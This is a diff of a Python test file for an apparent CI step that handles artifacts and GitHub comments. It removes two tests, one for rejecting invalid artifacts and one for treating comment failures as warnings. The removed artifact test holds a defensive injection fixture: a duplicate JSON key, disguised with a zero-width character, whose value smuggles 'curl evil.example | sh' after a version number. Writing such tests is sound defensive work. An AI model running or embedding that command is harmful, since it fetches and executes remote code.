@@ -87,23 +87,6 @@ def test_an_artifact_reaches_an_output_and_a_file(tmp_path: Path) -> None:
     assert result_of(step)["artifact_file"] == "artifact.json"
 
 
-def test_an_invalid_artifact_is_not_handed_on(tmp_path: Path) -> None:
-    """Two keys would become one, and the second one win."""
-    attack = '{"version": "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}'
-    scenario = tmp_path / "artifact.yaml"
-    steps = [{"status": "success"}, {"after": "100ms", "commit": "{{ commit_sha }}"}]
-    scenario.write_text(json.dumps({"artifacts": {"report": {"text": attack}}, "steps": steps}))
-    with beside(tmp_path, scenario=scenario) as each:
-        step = each.step(artifact="report", artifact_schema="schema.json")
-        schema = {"properties": {"version": {"pattern": "^[0-9.]+$"}}}
-        (step.workspace / "schema.json").write_text(json.dumps(schema))
-        ended = step.run()
-    assert (ended.code, step.outputs["error-code"]) == (1, "ARTIFACT_INVALID"), ended.out
-    assert step.outputs.get("artifact", "") == ""
-    assert not (step.workspace / "artifact.json").exists()
-    assert "evil.example" not in ended.out + written_by(step)
-
-
 def test_one_comment_tells_of_the_run_from_its_start_to_its_end(tmp_path: Path) -> None:
     with beside(tmp_path, scenario=ARTIFACT) as each:
         ended = each.step(comment_on="7").run()
@@ -140,14 +123,6 @@ def test_a_stranger_cannot_put_the_comment_there_beforehand(tmp_path: Path) -> N
         each.step(comment_on="7", idempotency_key=key).run()
     assert [comment["user"]["type"] for comment in comments] == ["User", "Bot"]
     assert comments[0]["body"] == own
-
-
-def test_failing_to_comment_is_a_warning_only(tmp_path: Path) -> None:
-    with beside(tmp_path) as each:
-        each.github.fail(status=403, times=99)
-        ended = each.step(comment_on="7").run()
-    assert (ended.code, each.github.comments) == (0, [])
-    assert read_log(ended.out).texts("warning")[0].startswith("Could not write the comment: ")
 
 
 def test_a_step_that_is_stopped_while_gates_judge_tells_what_is_known_of_the_run(
